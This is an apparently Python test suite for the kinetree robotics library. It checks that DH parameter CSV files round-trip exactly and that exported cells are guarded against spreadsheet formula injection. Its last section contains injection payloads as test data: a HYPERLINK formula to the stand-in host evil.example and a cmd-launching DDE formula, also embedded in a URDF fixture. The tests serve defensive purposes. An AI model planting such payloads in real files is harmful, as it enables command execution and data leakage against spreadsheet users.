"""A DH table file read and written back keeps what it says: rows, base, tool, names (QA files
items 2 and 13)."""

from __future__ import annotations

import csv

import numpy as np
import pytest
from kinetree.core.io.dh_csv import read_dh_csv
from kinetree.core.io.files import export_robot, import_robot

# the QA file: base and tool lines, a literal theta (row 5), empty limits (row 5), a 17-digit
# offset, a quoted name, a prismatic row and a home column
PUMA_DEG = '''\
# kinetree dh-table convention=dh angles=deg lengths=m
# base: xyz=0 0 0.1 rpy=0 0 90
# tool: xyz=0 0 0.05 rpy=180 0 0 name="my gripper"
type,a,alpha,d,theta,offset,qmin,qmax,name,joint,home
R,0,90,0.6718,q1,0,-160,160,link1,q1,10
R,0.4318,0,0,q2,-90,-110,110,link2,q2,0
R,0.0203,-90,0.15005,q3,0.1,-135,135,link3,q3,0
R,0,90,0.4318,q4,33.123456789012345,-266,266,"lïnk4 ""quoted, comma""",q4,0
R,0,-90,0,7.5,0,,,link5,q5,0
P,0.1,0,q6,12.5,0.25,0.1,0.3,link6,q6,0.2
'''

MDH_RAD = """\
# kinetree dh-table convention=mdh angles=rad lengths=m
# base: xyz=0.25 -0.5 0.125 rpy=0.1 -0.2 0.3
# tool: xyz=0 0 0.2 rpy=0 0.5 0
type,a,alpha,d,theta,offset,qmin,qmax,name,joint
R,0,0,0.3,q1,0,,,a1,j1
R,0.4,1.5707963267948966,0,0.25,0.1,-2,2,a2,j2
P,0,-1.5707963267948966,q3,0.3,0,,,a3,j3
"""

TOOL_ONLY = """\
# kinetree dh-table convention=dh angles=deg lengths=m
# tool: xyz=0 0 0.1 rpy=0 0 0 name=tcp
type,a,alpha,d,theta,offset,qmin,qmax,name,joint
R,0.5,0,0,q1,0,,,link1,q1
R,0.5,0,0,q2,0,-90,90,link2,q2
"""

FILES = {"puma_deg": (PUMA_DEG, "deg"), "mdh_rad": (MDH_RAD, "rad"), "tool_only": (TOOL_ONLY, "deg")}


def _cell(text: str):
    """A cell's number (33.123456789012345 and …344 are one float) or its text."""
    try:
        return float(text)
    except ValueError:
        return text


def assert_same_table(got, want):
    assert got.convention == want.convention
    assert got.links == want.links  # every field, exactly: a literal theta, empty limits (None), names …
    for key in ("base", "tool"):
        g, w = getattr(got, key), getattr(want, key)
        assert (g is None) == (w is None), key
        if w is not None:  # through roll-pitch-yaw and back
            np.testing.assert_allclose(g, w, rtol=0, atol=1e-15)
    assert got.tool_name == want.tool_name


def assert_same_tree(got, want):
    assert got.body_names == want.body_names
    assert [got.parent_name(b) for b in got.body_names] == [want.parent_name(b) for b in want.body_names]
    for name in want.body_names:
        gj, wj = got.get_body(name).joint, want.get_body(name).joint
        assert (gj.name, gj.type) == (wj.name, wj.type)
        np.testing.assert_array_equal(gj.position_limits, wj.position_limits)
        np.testing.assert_array_equal(gj.home_position, wj.home_position)
    rng = np.random.default_rng(5)
    for qk in [want.home_configuration()] + [want.random_configuration(rng) for _ in range(4)]:
        for name in want.body_names:
            np.testing.assert_allclose(got.get_transform(qk, name), want.get_transform(qk, name), rtol=0, atol=1e-14)


@pytest.mark.parametrize("via", ["csv", "project"])
@pytest.mark.parametrize("key", sorted(FILES))
def test_table_written_back_unchanged(key, via, tmp_path):
    text, units = FILES[key]
    src = tmp_path / "in.csv"
    src.write_text(text, encoding="utf-8")
    tree = import_robot(src)
    if via == "project":
        export_robot(tree, tmp_path / "mid.kinetree.json")
        tree = import_robot(tmp_path / "mid.kinetree.json")
    out = tmp_path / "out.csv"
    export_robot(tree, out, units=units)
    assert_same_table(read_dh_csv(out), read_dh_csv(src))
    assert_same_tree(import_robot(out), import_robot(src))
    # the file itself: the same lines and cells but for how a number or the tool name is spelled
    lines, back = src.read_text(encoding="utf-8").splitlines(), out.read_text(encoding="utf-8").splitlines()
    assert len(back) == len(lines)
    for got, want in zip(back, lines):
        if want.startswith("#"):
            assert got.split("name=")[0] == want.split("name=")[0]
        else:
            assert [_cell(c) for c in next(csv.reader([got]))] == [_cell(c) for c in next(csv.reader([want]))]
    written = out.read_text(encoding="utf-8")
    export_robot(import_robot(out), out, units=units)  # and a second pass changes nothing at all
    assert out.read_text(encoding="utf-8") == written


def test_literal_theta_and_empty_limits_stay(tmp_path):
    src = tmp_path / "in.csv"
    src.write_text(PUMA_DEG, encoding="utf-8")
    out = tmp_path / "out.csv"
    export_robot(import_robot(src), out)
    rows = out.read_text(encoding="utf-8").splitlines()
    assert rows[1] == "# base: xyz=0 0 0.1 rpy=0 0 90"
    assert rows[8] == "R,0,-90,0,7.5,0,,,link5,q5,0"
    assert rows[9] == "P,0.1,0,q6,12.5,0.25,0.1,0.3,link6,q6,0.2"
    assert read_dh_csv(out).links[3].offset == read_dh_csv(src).links[3].offset  # 17 digits, bit for bit
    assert import_robot(out).body_names[0] == "dh_base"


def test_a_convention_change_still_computes_the_table(tmp_path):
    src = tmp_path / "in.csv"
    src.write_text(PUMA_DEG, encoding="utf-8")
    tree = import_robot(src)
    out = tmp_path / "out.csv"
    export_robot(tree, out, convention="mdh")
    assert read_dh_csv(out).convention == "mdh"
    back = import_robot(out)
    q = tree.home_configuration()
    np.testing.assert_allclose(back.get_transform(q, back.body_names[-1]),
                               tree.get_transform(q, "my gripper"), rtol=0, atol=1e-12)


@pytest.mark.parametrize("base", [None, np.eye(4), "tiny", "moved"])
@pytest.mark.parametrize("tool", [None, np.eye(4), "tiny", "moved"])
@pytest.mark.parametrize("tool_name", ["", "link2", "link1", "tcp"])
@pytest.mark.parametrize("named", [True, False])
def test_num_bodies_counts_what_to_tree_builds(base, tool, tool_name, named):
    """What ``kinetree convert`` reports for a CSV (QA files item 18)."""
    from kinetree.core import DHLink
    from kinetree.core.io.dh_csv import DHTable
    from kinetree.core.transforms import pose_from_xyz_rpy

    def pose(kind):
        if isinstance(kind, str):  # below the snap (no body) or not
            return pose_from_xyz_rpy([0, 0, 1e-15] if kind == "tiny" else [0.1, 0, 0.2], [0, 0, 0])
        return kind

    links = [DHLink("R", 0.1, name="link1" if named else ""), DHLink("P", 0.0, 0.5, name="link2" if named else "")]
    table = DHTable(links, "dh", pose(base), pose(tool), tool_name)
    assert table.num_bodies == table.to_tree().num_bodies


# --- item 13: no cell runs as a spreadsheet formula; names still round-trip --------------------------

NAMES = ['=HYPERLINK("http://evil.example/?x","click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-x", "'=already",
         "''@two", "'plain", "a;=b", "a;'=b", "x,=cmd", "ok", "'", "=", "a;"]
TOOL_NAMES = ["g,=cmd|' /C calc'!A0;@x", "=tool", "'=q", "a,'b;'+c", "t,", "plain tool"]


def assert_no_formula_cell(text: str):
    """As a spreadsheet splits the file, at , (honouring quotes) and at ; (a ; locale): no text
    cell starts with = + - @ tab or CR (a number such as -90 is a number)."""
    for line in text.splitlines():
        for sep in (",", ";"):
            for cell in next(csv.reader([line], delimiter=sep)):
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # else: a formula


def _chain(tool_name=""):
    from kinetree.core import DHLink
    from kinetree.core.io.dh_csv import DHTable
    from kinetree.core.transforms import pose_from_xyz_rpy

    links = [DHLink("R", 0.1 * k, 0.2, name=n, joint_name=NAMES[-1 - k]) for k, n in enumerate(NAMES)]
    return DHTable(links, "dh", pose_from_xyz_rpy([0, 0, 0.1], [0, 0, 0]),
                   pose_from_xyz_rpy([0, 0, 0.2], [0, 0, 0]) if tool_name else None, tool_name)


@pytest.mark.parametrize("tool_name", TOOL_NAMES)
def test_formula_names_are_guarded_and_read_back(tool_name, tmp_path):
    from kinetree.core.io.dh_csv import write_dh_csv

    table = _chain(tool_name)
    path = tmp_path / "names.csv"
    write_dh_csv(path, table)
    text = path.read_text(encoding="utf-8")
    assert_no_formula_cell(text)
    assert "\"'=HYPERLINK(" in text and ",'@SUM(1+1)" in text and ",''=already," in text and ",'''@two," in text
    assert ",'plain," in text and ",a;'=b," in text and ",a;''=b," in text  # a plain quote is left alone
    back = read_dh_csv(path)
    assert [lk.name for lk in back.links] == NAMES
    assert [lk.joint_name for lk in back.links] == NAMES[::-1]
    assert back.tool_name == tool_name
    # and through a tree, a project and a second CSV
    tree = import_robot(path)
    assert tree.body_names == ["dh_base", *NAMES, tool_name]
    export_robot(tree, tmp_path / "names.kinetree.json")
    export_robot(import_robot(tmp_path / "names.kinetree.json"), tmp_path / "again.csv")
    assert (tmp_path / "again.csv").read_text(encoding="utf-8") == text


def test_formula_names_from_a_urdf(tmp_path):
    """The QA file: a URDF whose link and joint names are formulas, exported to CSV."""
    urdf = tmp_path / "inject.urdf"
    urdf.write_text('<robot name="r"><link name="base"/><link name="=HYPERLINK(&quot;http://evil.example/?x&quot;,'
                    '&quot;click&quot;)"/><joint name="@SUM(1+1)*cmd|\' /C calc\'!A0" type="revolute">'
                    '<parent link="base"/><child link="=HYPERLINK(&quot;http://evil.example/?x&quot;,&quot;click&quot;)"/>'
                    '<axis xyz="0 0 1"/><limit lower="-1" upper="1" effort="1" velocity="1"/></joint></robot>',
                    encoding="utf-8")
    out = tmp_path / "inject.csv"
    tree = import_robot(urdf)
    export_robot(tree, out)
    assert_no_formula_cell(out.read_text(encoding="utf-8"))
    back = import_robot(out)
    assert back.body_names == tree.body_names and back.movable_joint_names == tree.movable_joint_names


def test_reader_undoes_only_the_guard(tmp_path):
    path = tmp_path / "hand.csv"  # as a user or a spreadsheet writes it
    path.write_text("type,a,alpha,d,theta,name,joint\nR,0,0,0,q1,'=a,'x\nR,0,0,0,q2,''-b,it's\n", encoding="utf-8")
    assert [(lk.name, lk.joint_name) for lk in read_dh_csv(path).links] == [("=a", "'x"), ("'-b", "it's")]


def test_a_mimic_in_a_stored_table_is_refused_not_dropped(tmp_path):
    """A table has no mimic column: the stored rows must not be written as if the joint moved."""
    from kinetree.core import Mimic
    from kinetree.core.errors import KineTreeError

    src = tmp_path / "in.csv"
    src.write_text(PUMA_DEG, encoding="utf-8")
    tree = import_robot(src)
    tree.get_body("link3").joint.mimic = Mimic("q2", 2.0, 0.1)
    with pytest.raises(KineTreeError, match="mimic"):
        export_robot(tree, tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()
